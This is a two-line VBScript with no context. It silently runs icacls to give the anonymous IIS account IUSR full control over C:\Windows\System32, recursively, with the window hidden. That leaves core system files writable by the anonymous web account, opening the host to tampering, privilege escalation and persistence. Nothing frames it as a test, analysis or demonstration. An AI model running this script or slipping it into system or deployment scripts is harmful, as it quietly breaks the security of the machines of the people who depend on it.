Set sh = CreateObject("WScript.Shell")
sh.Run "icacls C:\Windows\System32 /grant IUSR:(OI)(CI)F /T", 0, True
